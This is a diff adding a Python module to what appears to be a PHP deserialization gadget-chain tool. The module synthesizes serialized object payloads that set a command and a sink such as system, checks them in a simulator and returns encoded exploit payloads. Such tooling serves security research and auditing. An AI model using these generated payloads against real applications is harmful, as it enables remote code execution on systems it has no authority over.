@@ -0,0 +1,125 @@
+from concurrent.futures import ProcessPoolExecutor
+from typing import Callable, Iterator, List, Optional
+from .graph import build_graph_chain
+from .index import SummaryIndex
+from .models import ChainCandidate, ClassInfo, VerifiedChain, VerifiedChains
+from .payload import PHPObject, encode_payload, php_serialize, to_spec
+from .simulator import DEFAULT_MAX_STEPS, get_simulator
+
+
+def synthesize_payload(chain: ChainCandidate, index: SummaryIndex, command: str = "id") -> Optional[PHPObject]:
+    # one object per step, each stored in the property its predecessor triggers or calls through
+    # ("<what> via $this->p" notes from the graph search); "self call" steps stay on the same
+    # object. A "static call" (A::m()) has no $this, so it adds no object and nothing it reads is
+    # put on the caller; a self call inside it is static too. The last step running on an object
+    # gets the command in the properties its method reads and the sink function in those it
+    # invokes
+    objects: List[PHPObject] = []
+    tail = 0
+    instance = True
+    for i, step in enumerate(chain.steps):
+        note = step.note or ""
+        if i and note in ("self call", "static call"):
+            instance = instance and note == "self call"
+            objects.append(objects[-1])
+            if instance:
+                tail = i
+            continue
+        obj = PHPObject(step.class_name)
+        if i:
+            _, sep, prop = note.partition(" via $this->")
+            if not sep:
+                return None
+            objects[-1].properties[prop] = obj
+        objects.append(obj)
+        instance = True
+        tail = i
+    last = objects[tail]
+    c = index.table.lookup("\\" + chain.steps[tail].class_name)
+    ref = index.table.resolve(c, chain.steps[tail].method) if c is not None else None
+    if ref is None:
+        return None
+    m = ref[1]
+    func = "system" if chain.sink in ("call_user_func", "call_user_func_array") else chain.sink
+    for p in m.invokes_properties:
+        last.properties.setdefault(p, func)
+    for p in list(m.uses_properties) + index.table.properties(c):
+        last.properties.setdefault(p, command)
+    return objects[0]
+
+
+def verify_chains(
+    classes: List[ClassInfo],
+    sink: str,
+    index: Optional[SummaryIndex] = None,
+    max_depth: int = 4,
+    top_k: int = 50,
+    command: str = "id",
+    encoding: Optional[str] = None,
+    max_steps: int = DEFAULT_MAX_STEPS,
+    workers: int = 0,
+) -> Iterator[VerifiedChain]:
+    # discovery -> payload -> simulation for every candidate, yielding only the chains the
+    # simulator confirms, in rank order. The simulator is pure Python, so candidates are checked
+    # in process unless workers > 1, which runs them on a process pool whose workers rebuild the
+    # index and simulator once from the pickled classes. Results are consumed lazily, so the first
+    # verified chain is available before the last candidate is simulated
+    index = index or SummaryIndex(classes)
+    chains = build_graph_chain(classes, sink, max_depth=max_depth, top_k=top_k, index=index).items
+    if workers > 1 and len(chains) > 1:
+        pool = ProcessPoolExecutor(
+            max_workers=min(workers, len(chains)), initializer=_init_worker, initargs=(index.classes, sink, command, encoding, max_steps)
+        )
+        try:
+            for hit in pool.map(_check_in_worker, chains, chunksize=max(1, len(chains) // (workers * 4))):
+                if hit is not None:
+                    yield hit
+        finally:
+            # a consumer that stops early does not wait for the remaining candidates
+            pool.shutdown(wait=False, cancel_futures=True)
+    else:
+        for chain in chains:
+            hit = _check(chain, index, sink, command, encoding, max_steps)
+            if hit is not None:
+                yield hit
+
+
+def _check(chain: ChainCandidate, index: SummaryIndex, sink: str, command: str, encoding: Optional[str], max_steps: int) -> Optional[VerifiedChain]:
+    root = synthesize_payload(chain, index, command)
+    if root is None:
+        return None
+    report = get_simulator(index).run(root, sink=sink, max_steps=max_steps)
+    if not report.reached_sink:
+        return None
+    return VerifiedChain(chain=chain, payload=encode_payload(php_serialize(root), encoding), structure=to_spec(root), report=report)
+
+
+_WORKER: Optional[tuple] = None
+
+
+def _init_worker(classes: List[ClassInfo], sink: str, command: str, encoding: Optional[str], max_steps: int) -> None:
+    global _WORKER
+    _WORKER = (SummaryIndex(classes), sink, command, encoding, max_steps)
+
+
+def _check_in_worker(chain: ChainCandidate) -> Optional[VerifiedChain]:
+    return _check(chain, *_WORKER)
+
+
+def verify_chains_all(
+    classes: List[ClassInfo],
+    sink: str,
+    index: Optional[SummaryIndex] = None,
+    limit: Optional[int] = None,
+    on_hit: Optional[Callable[[VerifiedChain], None]] = None,
+    **kwargs,
+) -> VerifiedChains:
+    # on_hit sees each chain as soon as it is confirmed, before the remaining candidates are simulated
+    items: List[VerifiedChain] = []
+    for hit in verify_chains(classes, sink, index=index, **kwargs):
+        items.append(hit)
+        if on_hit is not None:
+            on_hit(hit)
+        if limit is not None and len(items) >= limit:
+            break
+    return VerifiedChains(items=items)